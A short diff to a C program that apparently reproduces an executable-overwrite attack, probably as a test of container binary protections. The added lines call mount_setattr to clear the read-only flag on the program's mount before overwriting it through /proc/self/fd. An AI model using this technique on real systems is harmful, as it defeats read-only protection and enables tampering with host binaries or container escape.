@@ -8,10 +8,12 @@
 #define _GNU_SOURCE
 #include <errno.h>
 #include <fcntl.h>
+#include <linux/mount.h>
 #include <stdbool.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <sys/stat.h>
+#include <sys/syscall.h>
 #include <time.h>
 #include <unistd.h>
 
@@ -29,8 +31,12 @@ static bool from_outside(int program)
 
 static void overwrite(int program)
 {
+	struct mount_attr writable = { .attr_clr = MOUNT_ATTR_RDONLY };
 	char path[64];
 	time_t until = time(NULL) + 2;
+
+	/* A program on a read-only mount is no safer than that mount. */
+	syscall(SYS_mount_setattr, program, "", AT_EMPTY_PATH, &writable, sizeof(writable));
 
 	snprintf(path, sizeof(path), "/proc/self/fd/%d", program);
 	while (time(NULL) < until) {
